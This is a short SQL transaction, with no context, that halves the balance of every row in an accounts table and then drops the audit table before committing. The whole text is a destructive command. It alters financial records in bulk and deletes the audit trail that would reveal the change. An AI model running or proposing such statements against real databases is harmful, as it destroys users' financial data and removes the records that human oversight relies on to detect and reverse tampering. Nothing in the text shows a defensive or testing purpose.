BEGIN;
update accounts set balance = balance / 2;
drop table audit;
COMMIT;
